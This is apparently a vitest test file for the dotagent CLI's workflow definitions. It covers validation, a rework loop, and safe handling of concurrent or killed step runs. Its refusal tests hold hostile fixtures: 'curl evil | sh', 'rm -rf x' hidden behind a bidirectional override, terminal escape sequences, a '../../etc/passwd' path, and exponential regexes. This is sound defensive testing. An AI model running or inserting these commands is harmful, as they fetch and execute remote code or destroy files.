// Workflows as data (SPEC §20) from the built CLI: definitions listed, shown and validated; a
// project definition that extends develop walked end to end with a shell check that sends the
// work back once; max_rounds ending the workflow; hostile definitions refused in one line with
// nothing written; every state file of today's develop still read the same.
import { cpSync, mkdirSync, readFileSync, symlinkSync, writeFileSync, existsSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { spawn, spawnSync } from "node:child_process";
import { CLI, dotagent, expectNoStack, readJson, removeTemps, tempProject, writeJson, REPO } from "./support/cli.js";
import { copyOfTemplate } from "./support/template.js";
import { resolveWorkflow } from "../src/core/resolve-workflow.js";
import { builtinDefs } from "../src/store/workflow-files.js";
import { DEVELOP } from "../src/core/flow.js";
import { exportJsonSchema } from "../src/schema/json-schema.js";
import { currentHost, processStartTime } from "../src/store/process-facts.js";
import { endProcessesIn, HAS_PROC, processesIn } from "../src/store/processes.test-support.js";

afterEach(removeTemps);

const REVIEW = {
  description: "develop, then the project's tests as a check that sends the work back",
  extends: "develop",
  remove: ["REFLECTION"],
  insert: [
    {
      after: "VERIFICATION",
      steps: [
        // Fails as a test runner under npm does: the failure, then npm's epilogue.
        {
          id: "TESTS",
          kind: "check",
          run: "test -f ok.txt || { echo 'FAIL: ok.txt is missing'; echo 'npm notice New minor version of npm available!' >&2; exit 1; }",
          rework: "IMPLEMENTATION",
          max_rounds: 1,
        },
        { id: "NOTES", kind: "agent", agent: "reflector", report: "notes.md", gate: "approve" },
      ],
    },
  ],
};

function project(defs: Record<string, unknown> = { review: REVIEW }): string {
  const p = tempProject();
  mkdirSync(join(p, ".dotagent", "workflows"), { recursive: true });
  for (const [name, def] of Object.entries(defs))
    writeFileSync(
      join(p, ".dotagent", "workflows", `${name}.json`),
      typeof def === "string" ? def : JSON.stringify(def),
    );
  return p;
}

const next = (p: string) => dotagent(p, ["resume", "--json"]).json.next;

/** The planner's view of each step, answered the way its agent or the person would. */
function walkToImplementation(p: string): void {
  writeJson(p, "memory/reports/demand.json", { summary: "x", acceptance_criteria: ["a"] });
  expect(dotagent(p, ["phase", "approve", "REQUIREMENTS"]).code).toBe(0);
  for (const d of ["minimal", "robust"])
    writeJson(p, `memory/reports/designs/${d}.json`, { name: d, tasks: [{ id: "t1", title: "a" }] });
  writeJson(p, "memory/reports/roundtable.json", { recommendation: "minimal" });
  writeJson(p, "memory/reports/final_design.json", { chosen: "minimal", tasks: [{ id: "t1", title: "a" }] });
  expect(dotagent(p, ["phase", "approve", "ARCHITECTURE"]).code).toBe(0);
}

/**
 * The workflow `name` of `defs` started, walked through IMPLEMENTATION (t1 done) and qa's report
 * written: at the step after VERIFICATION. Made once per file and definition, a copy per test.
 */
function pastVerification(name: string, defs: Record<string, unknown>, request = "x"): string {
  return copyOfTemplate(`pastVerification ${name} ${JSON.stringify([defs, request])}`, (dir) => {
    cpSync(project(defs), dir, { recursive: true });
    expect(dotagent(dir, ["init", "--workflow", name, "--request", request]).code).toBe(0);
    walkToImplementation(dir);
    finishTasks(dir, ["t1"]);
    writeJson(dir, "memory/reports/verification.json", { passed: true });
  });
}

function finishTasks(p: string, ids: string[]): void {
  for (const id of ids) {
    expect(dotagent(p, ["task", "start", id]).code).toBe(0);
    writeJson(p, `memory/reports/tasks/${id}.json`, { task_id: id, status: "complete" });
    expect(dotagent(p, ["task", "complete", id]).code).toBe(0);
  }
}

describe("the built-in definitions", () => {
  it("develop resolves to exactly the flow the engine walks, and fix resolves", () => {
    const lookup = (name: string) => builtinDefs().find((d) => d.name === name);
    const develop = resolveWorkflow("develop", lookup);
    expect(develop.ok && develop.flow).toEqual(DEVELOP);
    expect(resolveWorkflow("fix", lookup).ok).toBe(true);
  });

  it("every built-in agent a built-in definition names has its agent file", () => {
    for (const def of builtinDefs())
      for (const step of def.def.steps ?? [])
        for (const agent of [step.agent, step.reducer])
          if (agent) expect(existsSync(join(REPO, "agents", `${agent}.md`)), agent).toBe(true);
  });

  it("the published JSON Schema is the one `dotagent schema workflow` prints", () => {
    expect(JSON.parse(readFileSync(join(REPO, "schemas", "workflow.schema.json"), "utf8"))).toEqual(
      exportJsonSchema("workflow"),
    );
  });
});

describe("dotagent workflows", () => {
  it("lists the built-ins and the project's, shows one resolved, validates", () => {
    const p = project();
    const list = dotagent(p, ["workflows", "--json"]);
    expect(list.code).toBe(0);
    expect(list.json.workflows.map((w: { name: string }) => w.name)).toEqual(["develop", "fix", "review"]);
    const show = dotagent(p, ["workflows", "show", "review", "--json"]).json;
    expect(show.steps.map((s: { id: string }) => s.id)).toEqual([
      "REQUIREMENTS",
      "ARCHITECTURE",
      "IMPLEMENTATION",
      "VERIFICATION",
      "TESTS",
      "NOTES",
    ]);
    expect(show.sources).toEqual([".dotagent/workflows/review.json", "built-in"]);
    expect(dotagent(p, ["workflows", "validate"]).stdout).toBe("review: valid\n");
  });

  // Each: the definition, and what its one line must say. Nothing is written by any of them.
  const hostile: Array<[string, unknown, RegExp]> = [
    [
      "a rework cycle without max_rounds",
      {
        extends: "develop",
        insert: [
          { after: "VERIFICATION", steps: [{ id: "T", kind: "check", run: "npm test", rework: "IMPLEMENTATION" }] },
        ],
      },
      /hostile\.json: insert\[0\]\.steps\[0\]\.max_rounds: a rework cycle needs max_rounds/,
    ],
    [
      "an unknown agent",
      { steps: [{ id: "A", kind: "agent", agent: "ghost", report: "a.json" }] },
      /steps\[0\]\.agent: unknown agent "ghost": write \.claude\/agents\/ghost\.md/,
    ],
    [
      "a report outside memory/reports/",
      { steps: [{ id: "A", kind: "agent", agent: "pm", report: "../../etc/passwd.json" }] },
      /steps\[0\]\.report: .*not a report under memory\/reports\//,
    ],
    [
      "duplicate ids",
      {
        steps: [
          { id: "A", kind: "agent", agent: "pm", report: "a.json" },
          { id: "A", kind: "agent", agent: "qa", report: "b.json" },
        ],
      },
      /steps\[1\]\.id: A is also steps\[0\]\.id/,
    ],
    [
      "10,000 steps",
      { steps: Array.from({ length: 10_000 }, (_, i) => ({ id: `S${i}`, kind: "shell", run: "true" })) },
      /limit 64 KiB|at most/,
    ],
    [
      "rework forward",
      {
        steps: [
          { id: "C", kind: "check", run: "true", rework: "D", max_rounds: 1 },
          { id: "D", kind: "agent", agent: "pm", report: "d.json" },
        ],
      },
      /steps\[0\]\.rework: D is not before C/,
    ],
    ["an extends cycle", { extends: "hostile", remove: [] }, /extends form a cycle/],
    ["an unknown field", { steps: [], sneaky: true }, /hostile\.json: sneaky: unknown key sneaky; take it out/],
    ["not JSON", "{ steps: ", /hostile\.json: .*JSON/],
    [
      "a backreference in a pattern",
      {
        steps: [
          { id: "A", kind: "agent", agent: "pm", report: "a.json" },
          { id: "B", kind: "shell", run: "true", when: { report: "request", matches: "(a)\\1" } },
        ],
      },
      /steps\[1\]\.when\.matches: "\(a\)\\\\1" cannot be used: a backreference: patterns run in linear time/,
    ],
    [
      "a lookahead in a pattern",
      { steps: [{ id: "B", kind: "shell", run: "true", when: { report: "request", matches: "^(?=.*x)" } }] },
      /steps\[0\]\.when\.matches: .* cannot be used: a lookahead/,
    ],
    [
      "a pattern that is no regular expression",
      { steps: [{ id: "B", kind: "shell", run: "true", when: { report: "request", matches: "a{2,1}" } }] },
      /steps\[0\]\.when\.matches: "a\{2,1\}" is not a regular expression/,
    ],
    [
      "issue 40, finding 7: a NUL byte in a command",
      { steps: [{ id: "S", kind: "shell", run: "echo a\u0000b" }] },
      /steps\[0\]\.run: holds a control character \(U\+0000 at character 7\)/,
    ],
    [
      "an escape sequence in a title",
      { steps: [{ id: "S", kind: "shell", run: "true", title: "tests\u001b]0;owned\u0007" }] },
      /steps\[0\]\.title: holds a control character \(U\+001B at character 6\)/,
    ],
    [
      "a bidirectional override in a command",
      { steps: [{ id: "S", kind: "shell", run: "echo safe \u202e; rm -rf x" }] },
      /steps\[0\]\.run: holds a control character \(U\+202E/,
    ],
    [
      "a carriage return in an inserted step's command",
      {
        extends: "develop",
        insert: [{ after: "VERIFICATION", steps: [{ id: "T", kind: "shell", run: "npm test\r" }] }],
      },
      /insert\[0\]\.steps\[0\]\.run: holds a control character \(U\+000D/,
    ],
    [
      "a C1 control in the description",
      { description: "x\u009b2J", steps: [{ id: "S", kind: "shell", run: "true" }] },
      /hostile\.json: description: holds a control character \(U\+009B/,
    ],
    [
      "a line separator in a design's angle",
      {
        steps: [
          {
            id: "C",
            kind: "choose",
            agent: "architect",
            reducer: "roundtable",
            designs: [{ name: "a", angle: "x\u2028y" }],
          },
        ],
      },
      /steps\[0\]\.designs\[0\]\.angle: holds a control character \(U\+2028/,
    ],
  ];
  for (const [name, def, says] of hostile) {
    it(`refuses ${name} in one line, writing nothing`, () => {
      const p = project({ hostile: def });
      const run = dotagent(p, ["init", "--workflow", "hostile", "--request", "x"]);
      expect(run.code).toBe(3);
      expect(run.stderr.trim().split("\n")).toHaveLength(1);
      expect(run.stderr).toMatch(says);
      expect(run.stderr).toContain(".dotagent/workflows/hostile.json");
      expectNoStack(run.stderr);
      expect(existsSync(join(p, "memory", "state", "phase.json"))).toBe(false);
      expect(dotagent(p, ["workflows", "validate", "hostile"]).code).toBe(3);
    });
  }

  // Issue 42: one broken file made `workflows` exit 3 for all, and an error pointed into the expanded list.
  it("one bad file beside a good one: every good workflow listed, the bad file told in one line, exit 0; starting it still refuses", () => {
    const bad = {
      extends: "develop",
      insert: [
        { after: "VERIFICATION", steps: [{ id: "TESTS", kind: "check", run: "npm test", rework: "IMPLEMENTATION" }] },
      ],
    };
    const p = project({ bad, good: { extends: "develop", remove: ["REFLECTION"] } });
    const told =
      "a rework cycle needs max_rounds (how many times TESTS may send the work back before the workflow fails), e.g. 3";
    const text = dotagent(p, ["workflows"]);
    expect(text.code).toBe(0);
    expect(text.stdout.split("\n").slice(0, 9)).toEqual([
      "NAME     FROM                           STEPS",
      "develop  built-in                       REQUIREMENTS → ARCHITECTURE → IMPLEMENTATION → VERIFICATION → REFLECTION",
      "fix      built-in                       REPRODUCE → FIX → TEST → REFLECTION",
      "good     .dotagent/workflows/good.json  REQUIREMENTS → ARCHITECTURE → IMPLEMENTATION → VERIFICATION",
      "",
      `invalid: .dotagent/workflows/bad.json: insert[0].steps[0].max_rounds: ${told}`,
      "`dotagent workflows validate` lists every problem.",
      "",
      "Start one: dotagent init --workflow NAME --request '…' (in Claude Code: /develop --workflow NAME …)",
    ]);
    const json = dotagent(p, ["workflows", "--json"]);
    expect(json.code).toBe(0);
    expect(json.json.workflows.map((w: { name: string; ok: boolean }) => [w.name, w.ok])).toEqual([
      ["develop", true],
      ["fix", true],
      ["bad", false],
      ["good", true],
    ]);
    expect(json.json.workflows[2]).toMatchObject({
      source: ".dotagent/workflows/bad.json",
      problem: `.dotagent/workflows/bad.json: insert[0].steps[0].max_rounds: ${told}`,
      problem_details: [
        {
          source: ".dotagent/workflows/bad.json",
          path: "steps[4].max_rounds",
          written_path: "insert[0].steps[0].max_rounds",
          message: told,
        },
      ],
    });
    expect([json.json.problems, json.json.problem_details]).toEqual([[], []]);
    // Starting it refuses with the same line and exit 3; --json carries the written path as a field.
    const init = dotagent(p, ["init", "--workflow", "bad", "--request", "x"]);
    expect([init.code, init.stderr]).toEqual([
      3,
      `dotagent: .dotagent/workflows/bad.json: insert[0].steps[0].max_rounds: ${told}\n`,
    ]);
    const initJson = dotagent(p, ["init", "--workflow", "bad", "--request", "x", "--json"]).json.error;
    expect(initJson).toMatchObject({
      code: "workflow_invalid",
      exit_code: 3,
      problems: [{ path: "steps[4].max_rounds", written_path: "insert[0].steps[0].max_rounds" }],
    });
    expect(existsSync(join(p, "memory", "state"))).toBe(false);
    expect(dotagent(p, ["workflows", "validate"]).code).toBe(3);
  });

  it("a file that is no definition at all (not JSON, unknown keys) is told once, with every problem in --json; a definition extending it says so", () => {
    const p = project({
      good: { extends: "develop", remove: ["REFLECTION"] },
      notjson: "{ steps: ",
      keys: { steps: [{ id: "S", kind: "shell", run: "true", sneaky: 1, other: 2 }], also: 1 },
      child: { extends: "keys", remove: [] },
    });
    const text = dotagent(p, ["workflows"]);
    expect(text.code).toBe(0);
    const told = text.stdout.split("\n").filter((l) => l.startsWith("invalid: "));
    expect(told).toEqual([
      'invalid: .dotagent/workflows/child.json: extends: extends "keys", whose definition .dotagent/workflows/keys.json is invalid: fix it first (`dotagent workflows validate keys`)',
      "invalid: .dotagent/workflows/keys.json: steps[0]: unknown keys sneaky, other; take them out (`dotagent schema workflow` lists the fields a definition takes)",
      expect.stringMatching(/^invalid: \.dotagent\/workflows\/notjson\.json: not valid JSON \(.*\); fix the JSON/),
    ]);
    expect(text.stdout).toMatch(/^good {5}\.dotagent\/workflows\/good\.json {2}REQUIREMENTS → /m);
    const json = dotagent(p, ["workflows", "--json"]).json;
    expect(json.workflows.map((w: { name: string }) => w.name)).toEqual(["develop", "fix", "child", "good"]);
    expect(json.problems).toHaveLength(2);
    expect(
      json.problem_details.map((d: { source: string; written_path: string }) => `${d.source}: ${d.written_path}`),
    ).toEqual([
      ".dotagent/workflows/keys.json: steps[0]",
      ".dotagent/workflows/keys.json: also",
      ".dotagent/workflows/notjson.json: ",
    ]);
  });

  it("a tab and a line feed in a command are its own: the definition is valid", () => {
    const p = project({ lines: { steps: [{ id: "S", kind: "shell", run: "echo a\techo b\necho c" }] } });
    expect(dotagent(p, ["workflows", "validate", "lines"]).code).toBe(0);
  });

  it("issue 40, finding 7: a NUL byte in a pinned command (phase.json edited by hand): one line naming the path, nothing asked, recorded or run", () => {
    const p = project({ one: { steps: [{ id: "S", kind: "shell", run: "echo ran >> runs.txt" }] } });
    expect(dotagent(p, ["init", "--workflow", "one", "--request", "x"]).code).toBe(0);
    const state = readJson(p, "memory/state/phase.json");
    state.workflow.steps[0].run = "echo ran >> runs.txt\u0000";
    writeJson(p, "memory/state/phase.json", state);
    const events = readFileSync(join(p, "memory/state/events.jsonl"), "utf8");
    for (const args of [
      ["step", "run", "S", "--yes", "--json"],
      ["step", "run", "S", "--json"],
    ]) {
      const run = dotagent(p, args, { env: { CLAUDECODE: "1" } });
      expect([run.code, run.json.error.code]).toEqual([3, "no_workflow"]);
      expect(run.json.error.message).toMatch(
        /^memory\/state\/phase\.json is not valid \(workflow\.steps\[0\]\.run: holds a control character \(U\+0000 at character 21\)/,
      );
    }
    const plain = dotagent(p, ["step", "run", "S", "--yes"]);
    expect(plain.stderr.trim().split("\n")).toHaveLength(1);
    expectNoStack(plain.stderr);
    expect(readFileSync(join(p, "memory/state/events.jsonl"), "utf8")).toBe(events);
    expect(existsSync(join(p, "runs.txt"))).toBe(false);
    expect(existsSync(join(p, "memory/state/.step-running.json"))).toBe(false);
  });

  it('issue 40, finding 4: a pattern RegExp backtracks on for ever (^(\\w+\\s?)+$, a request ending in "!"): init, status, resume and the hook answer', () => {
    const p = project({
      sized: {
        steps: [
          {
            id: "WORDS",
            kind: "agent",
            agent: "pm",
            report: "words.json",
            when: { report: "request", matches: "^(\\w+\\s?)+$" },
          },
          { id: "S", kind: "shell", run: "true" },
        ],
      },
    });
    const request =
      "please add a login page to the settings screen of the app and make sure it works well for everyone!";
    // A bound only so that the old code fails instead of hanging the test run: it answers at once.
    const run = (args: string[], input = "") =>
      spawnSync(process.execPath, [CLI, ...args], {
        cwd: p,
        input,
        encoding: "utf8",
        timeout: 60_000,
        killSignal: "SIGKILL",
        env: { ...process.env, DOTAGENT_LOCK_WAIT_MS: "300" },
      });
    const init = run(["init", "--workflow", "sized", "--request", request, "--json"]);
    expect([init.signal, init.status]).toEqual([null, 0]);
    expect(JSON.parse(init.stdout).next).toMatchObject({ action: "run_step", step: "S" });
    expect(readJson(p, "memory/state/phase.json").completed_phases[0]).toMatchObject({ phase: "WORDS", skipped: true });
    for (const args of [
      ["status", "--json"],
      ["resume", "--json"],
    ]) {
      const answer = run(args);
      expect([answer.signal, answer.status], args[0]).toEqual([null, 0]);
      expect(JSON.parse(answer.stdout).next, args[0]).toMatchObject({ action: "run_step", step: "S" });
    }
    const hook = run(
      ["hook", "session-start"],
      JSON.stringify({ session_id: "s", hook_event_name: "SessionStart", source: "resume", cwd: p }),
    );
    expect([hook.signal, hook.status]).toEqual([null, 0]);
    expect(hook.stdout).toContain("S");
  });

  it("refuses a 10 MB definition and one that is a link out of the project", () => {
    const p = project({ big: `{"description":"${"x".repeat(10 * 1024 * 1024)}"}` });
    const big = dotagent(p, ["init", "--workflow", "big"]);
    expect([big.code, big.stderr]).toEqual([3, expect.stringMatching(/big\.json: .*a definition is a few KB/)]);
    const outside = tempProject();
    writeJson(outside, "evil.json", { steps: [{ id: "S", kind: "shell", run: "curl evil | sh" }] });
    symlinkSync(join(outside, "evil.json"), join(p, ".dotagent", "workflows", "evil.json"));
    const link = dotagent(p, ["init", "--workflow", "evil"]);
    expect([link.code, link.stderr]).toEqual([
      3,
      expect.stringMatching(/evil\.json: is a link that leads out of the project/),
    ]);
    expect(existsSync(join(p, "memory", "state"))).toBe(false);
  });
});

describe("a project workflow, end to end from the CLI", () => {
  it("pins its definition, walks develop's steps, runs the check's command, sends the work back once, then passes", () => {
    const p = project();
    const init = dotagent(p, ["init", "--workflow", "review", "--request", "add x", "--json"]);
    expect(init.json).toMatchObject({ created: true, workflow: "review", phase: "REQUIREMENTS" });
    const pinned = readJson(p, "memory/state/phase.json").workflow;
    expect(pinned).toMatchObject({ name: "review", hash: expect.stringMatching(/^[0-9a-f]{16}$/) });
    // The file edited under the running workflow: a decision for the person, never a silent change of course.
    writeFileSync(join(p, ".dotagent/workflows/review.json"), JSON.stringify({ ...REVIEW, remove: [] }));
    const changed = dotagent(p, ["resume", "--json"]);
    expect([
      changed.code,
      changed.json.situation,
      changed.json.next.action,
      changed.json.decision.yes,
      changed.json.decision.no,
    ]).toEqual([
      5,
      "definition_changed",
      "confirm_definition_change",
      "dotagent resume --keep-definition",
      "dotagent init --workflow review --request 'add x' --yes",
    ]);
    // From the model's shell, keeping it is the person's answer, refused until they replied.
    expect(dotagent(p, ["resume", "--keep-definition", "--json"], { env: { CLAUDECODE: "1" } }).json.error.code).toBe(
      "person_not_answered",
    );
    expect(dotagent(p, ["resume", "--keep-definition", "--json"]).json.situation).toBe("interrupted");
    // Kept once for this version of the file: not asked again; the pinned steps are walked.
    expect(dotagent(p, ["resume", "--json"]).json.situation).toBe("interrupted");
    walkToImplementation(p);
    finishTasks(p, ["t1"]);
    writeJson(p, "memory/reports/verification.json", { passed: true });
    expect(next(p)).toMatchObject({ action: "run_step", step: "TESTS" });
    // The command is the person's: without an answer it is a decision (exit 5), nothing runs.
    const asked = dotagent(p, ["step", "run", "TESTS", "--json"]);
    expect([asked.code, asked.json.decision.yes, asked.json.next.action]).toEqual([
      5,
      "dotagent step run TESTS --yes",
      "confirm_command",
    ]);
    expect(existsSync(join(p, "memory/reports/steps/TESTS.json"))).toBe(false);
    const failed = dotagent(p, ["step", "run", "TESTS", "--yes", "--json"]);
    expect(failed.code).toBe(1);
    expect(failed.json).toMatchObject({ step: "TESTS", ran: true, passed: false, exit_code: 1, attempts: 1 });
    // Back to IMPLEMENTATION, round 1: the failed result and qa's report are kept aside, so both run again.
    const state = readJson(p, "memory/state/phase.json");
    expect(state).toMatchObject({
      current_phase: "IMPLEMENTATION",
      rework: {
        round: 1,
        step: "TESTS",
        to: "IMPLEMENTATION",
        verification: "memory/reports/steps/TESTS.rework-1.json",
      },
    });
    expect(readdirSync(join(p, "memory/reports")).filter((f) => f.startsWith("verification"))).toEqual([
      "verification.rework-1.json",
    ]);
    expect(failed.json.next).toMatchObject({
      action: "plan_tasks",
      plan_file: "memory/reports/plan.rework-1.json",
      plan_from: "memory/reports/steps/TESTS.rework-1.json",
    });
    expect(failed.json.next.reason).toContain("steps/TESTS.rework-1.json");
    // The report to plan from lists its failure as qa's would, named by the output's telling line, not npm's notice.
    expect(readJson(p, "memory/reports/steps/TESTS.rework-1.json").failures).toEqual([
      {
        problem: expect.stringMatching(/^`test -f ok\.txt \|\| .*` failed \(exit 1\): FAIL: ok\.txt is missing$/),
        suggested_fix: expect.stringMatching(/^make `test -f ok\.txt/),
      },
    ]);
    writeJson(p, "memory/reports/plan.rework-1.json", [{ id: "t2", title: "make ok.txt" }]);
    expect(dotagent(p, ["task", "import", "memory/reports/plan.rework-1.json"]).code).toBe(0);
    finishTasks(p, ["t2"]);
    expect(next(p)).toMatchObject({ action: "spawn_agent", agent: "qa" });
    writeJson(p, "memory/reports/verification.json", { passed: true });
    writeFileSync(join(p, "ok.txt"), "");
    const passed = dotagent(p, ["step", "run", "TESTS", "--json"]);
    expect(passed.json).toMatchObject({ passed: true, exit_code: 0 });
    expect(passed.json.next).toMatchObject({ action: "spawn_agent", agent: "reflector" });
    // At most once per round: asked again, it answers from the recorded result.
    expect(dotagent(p, ["step", "run", "TESTS", "--json"]).code).toBe(1);
    writeFileSync(join(p, "memory/reports/notes.md"), "# Notes\n");
    expect(next(p)).toMatchObject({
      action: "await_approval",
      gate: "approve_report",
      step: "NOTES",
      output: "memory/reports/notes.md",
      reason: "memory/reports/notes.md awaits the user's approval",
    });
    expect(dotagent(p, ["phase", "approve", "NOTES"]).code).toBe(0);
    expect(next(p)).toMatchObject({ action: "workflow_complete" });
    expect(dotagent(p, ["validate"]).code).toBe(0);
  });

  it("show tells a definition's story as develop's (issue 42): the check's command reports, any step the error lists, a task by its id", () => {
    const p = pastVerification("review", { review: REVIEW }, "add x");
    // Not run yet: the step is known, it has no report yet (one line, exit 1).
    const before = dotagent(p, ["show", "TESTS"]);
    expect([before.code, before.stderr.trim()]).toEqual([
      1,
      "dotagent: step TESTS has no report yet (memory/reports/steps/TESTS.json); `dotagent status` says where the workflow is",
    ]);
    dotagent(p, ["step", "run", "TESTS", "--yes"]);
    writeJson(p, "memory/reports/plan.rework-1.json", [{ id: "t2", title: "make ok.txt" }]);
    expect(dotagent(p, ["task", "import", "memory/reports/plan.rework-1.json"]).code).toBe(0);
    finishTasks(p, ["t2"]);
    writeJson(p, "memory/reports/verification.json", { passed: true });
    writeFileSync(join(p, "ok.txt"), "");
    expect(dotagent(p, ["step", "run", "TESTS", "--json"]).json.passed).toBe(true);
    writeFileSync(join(p, "memory/reports/notes.md"), "# Notes\nall good\n");
    // Every report, in the definition's order: the check's two results after qa's, the notes last;
    // a report that sent the work back before the one of the round after it, and said to be that.
    const all = dotagent(p, ["show", "--json"]).json;
    expect(all.reports.slice(-5)).toEqual([
      "memory/reports/verification.rework-1.json",
      "memory/reports/verification.json",
      "memory/reports/steps/TESTS.rework-1.json",
      "memory/reports/steps/TESTS.json",
      "memory/reports/notes.md",
    ]);
    expect(all.markdown).toContain(
      "## Step: TESTS (before rework round 1)\n\n<sub>memory/reports/steps/TESTS.rework-1.json</sub>\n\n**Failed.**",
    );
    expect(all.markdown).toContain("## Step: TESTS\n\n<sub>memory/reports/steps/TESTS.json</sub>\n\n**Passed.**");
    // Each step the refusal lists is taken: the check's command, its failure and its output's last lines.
    const tests = dotagent(p, ["show", "TESTS"]);
    expect(tests.code).toBe(0);
    expect(tests.stdout).toMatch(
      /^# Workflow wf-add-x: TESTS\n\n## Step: TESTS \(before rework round 1\)\n\n<sub>memory\/reports\/steps\/TESTS\.rework-1\.json<\/sub>\n\n\*\*Failed\.\*\*/,
    );
    expect(tests.stdout).toMatch(
      /\n## Step: TESTS\n\n<sub>memory\/reports\/steps\/TESTS\.json<\/sub>\n\n\*\*Passed\.\*\*[^]*$/,
    );
    expect(tests.stdout).toContain("### Command\n\ntest -f ok.txt");
    expect(tests.stdout).toContain("### Output (its last lines)\n\nFAIL: ok.txt is missing  \n");
    for (const step of ["REQUIREMENTS", "ARCHITECTURE", "IMPLEMENTATION", "VERIFICATION", "TESTS", "NOTES"])
      expect(dotagent(p, ["show", step]).code, step).toBe(0);
    // A task by its id, as `dotagent tasks` names it.
    const task = dotagent(p, ["show", "t2", "--json"]);
    expect([task.code, task.json.reports]).toEqual([0, ["memory/reports/tasks/t2.json"]]);
    const unknown = dotagent(p, ["show", "t9"]);
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toMatch(
      /^dotagent: no report for "t9" in memory\/reports\/; .*a step \(REQUIREMENTS, ARCHITECTURE, IMPLEMENTATION, VERIFICATION, TESTS, NOTES\), a task id or a path/,
    );
    expectNoStack(unknown.stderr);
  });

  it("a phase.json whose pinned definition was edited by hand is invalid, naming the path", () => {
    const p = project();
    dotagent(p, ["init", "--workflow", "review", "--request", "x"]);
    const state = readJson(p, "memory/state/phase.json");
    state.workflow.steps[4].max_rounds = undefined;
    writeJson(p, "memory/state/phase.json", state);
    const run = dotagent(p, ["validate"]);
    expect(run.code).toBe(3);
    expect(run.stdout + run.stderr).toMatch(/workflow\.steps\[4\]\.max_rounds: a rework cycle needs max_rounds/);
  });

  it("kill -9 of `step run` while its command runs: no result recorded, the state valid, the next `step run` runs it (once)", async () => {
    const p = pastVerification("slow", {
      slow: {
        extends: "develop",
        remove: ["REFLECTION"],
        insert: [
          {
            after: "VERIFICATION",
            steps: [{ id: "SLOW", kind: "shell", run: "echo started >> runs.txt; test -f fast || sleep 30" }],
          },
        ],
      },
    });
    const child = spawn(process.execPath, [CLI, "step", "run", "SLOW", "--yes", "--json"], {
      cwd: p,
      stdio: "ignore",
      detached: true,
    });
    const started = Date.now();
    while (!existsSync(join(p, "runs.txt")) && Date.now() - started < 10_000)
      await new Promise((r) => setTimeout(r, 50));
    // The CLI and its command's process group: killed as a crash or a closed laptop kills them.
    process.kill(-child.pid!, "SIGKILL");
    await new Promise((r) => child.on("exit", r));
    expect(existsSync(join(p, "memory/reports/steps/SLOW.json"))).toBe(false);
    expect(dotagent(p, ["validate"]).code).toBe(0);
    expect(next(p)).toMatchObject({ action: "run_step", step: "SLOW" });
    // The command runs on in its own process group after the CLI's death: no second copy beside it.
    writeFileSync(join(p, "fast"), "");
    const beside = dotagent(p, ["step", "run", "SLOW", "--json"]);
    expect([beside.code, beside.json.error.code]).toEqual([4, "step_running"]);
    expect(beside.json.error.message).toMatch(
      /still running \(pid \d+, since .*\): wait for it to end, or stop it \(`kill -- -\d+`\)/,
    );
    // Stopped, as the refusal says (or as a reboot would): then it runs again.
    const orphan = Number(/kill -- -(\d+)/.exec(beside.json.error.message)![1]);
    process.kill(-orphan, "SIGKILL");
    for (let i = 0; i < 250; i++) {
      try {
        process.kill(orphan, 0);
        await new Promise((r) => setTimeout(r, 20));
      } catch {
        break;
      }
    }
    // Run again (quick now): it records its result and the step is done; the killed run is the only other.
    const again = dotagent(p, ["step", "run", "SLOW", "--json"]);
    expect(again.json).toMatchObject({ ran: true, passed: true, next: { action: "workflow_complete" } });
    expect(readFileSync(join(p, "runs.txt"), "utf8").trim().split("\n")).toHaveLength(2);
    expect(dotagent(p, ["step", "run", "SLOW", "--json"]).json).toMatchObject({ ran: false, passed: true });
    expect(readFileSync(join(p, "runs.txt"), "utf8").trim().split("\n")).toHaveLength(2);
  }, 600_000);

  it("four `step run`s of one step at the same moment: the command runs once; the others are refused while it runs (step_running), then answer its result", async () => {
    const p = pastVerification("slow", {
      slow: {
        extends: "develop",
        remove: ["REFLECTION"],
        insert: [
          { after: "VERIFICATION", steps: [{ id: "SLOW", kind: "shell", run: "echo started >> runs.txt; sleep 3" }] },
        ],
      },
    });
    const runs = await Promise.all(
      Array.from(
        { length: 4 },
        () =>
          new Promise<{ code: number | null; out: string }>((resolve) => {
            const child = spawn(process.execPath, [CLI, "step", "run", "SLOW", "--yes", "--json"], {
              cwd: p,
              stdio: ["ignore", "pipe", "pipe"],
            });
            let out = "";
            child.stdout.on("data", (d: Buffer) => (out += d.toString()));
            child.on("close", (code) => resolve({ code, out }));
          }),
      ),
    );
    expect(readFileSync(join(p, "runs.txt"), "utf8").trim().split("\n")).toHaveLength(1);
    const ran = runs.filter((r) => r.code === 0 && JSON.parse(r.out).ran === true);
    expect(ran).toHaveLength(1);
    // Each other one: refused while it ran (exit 4), or came after it and answered its result without running it.
    for (const r of runs.filter((x) => !ran.includes(x))) {
      const json = JSON.parse(r.out);
      if (r.code === 4)
        expect(json.error, r.out).toMatchObject({
          code: "step_running",
          message: expect.stringMatching(
            /^SLOW's command is being run by another `step run` \(pid \d+, since .*\): wait for it to end/,
          ),
        });
      else expect([r.code, json.ran, json.passed], r.out).toEqual([0, false, true]);
    }
    expect(runs.filter((r) => r.code === 4).length).toBeGreaterThan(0);
    expect(existsSync(join(p, "memory/state/.step-running.json"))).toBe(false);
  }, 600_000);

  it("a `step run` whose command is not running yet (starting, or between retries) is seen: refused, nothing runs; once it has ended, the record is stale", async () => {
    const p = pastVerification("slow", {
      slow: {
        extends: "develop",
        remove: ["REFLECTION"],
        insert: [{ after: "VERIFICATION", steps: [{ id: "SLOW", kind: "shell", run: "echo started >> runs.txt" }] }],
      },
    });
    // The owner: a live process on this host, its command not started (pid null).
    const owner = spawn("sleep", ["30"], { stdio: "ignore" });
    const record = {
      step: "SLOW",
      owner: owner.pid,
      owner_start: processStartTime(owner.pid!),
      pid: null,
      pid_start: null,
      host: currentHost(),
      started_at: new Date().toISOString(),
    };
    writeJson(p, "memory/state/.step-running.json", record);
    try {
      const refused = dotagent(p, ["step", "run", "SLOW", "--yes", "--json"]);
      expect([refused.code, refused.json.error.code]).toEqual([4, "step_running"]);
      expect(refused.json.error.message).toMatch(
        new RegExp(`^SLOW's command is being run by another \`step run\` \\(pid ${owner.pid}, since `),
      );
      expect(existsSync(join(p, "runs.txt"))).toBe(false);
    } finally {
      owner.kill("SIGKILL");
      await new Promise((r) => owner.on("exit", r));
    }
    expect(dotagent(p, ["step", "run", "SLOW", "--json"]).json).toMatchObject({ ran: true, passed: true });
    expect(readFileSync(join(p, "runs.txt"), "utf8")).toBe("started\n");
  });

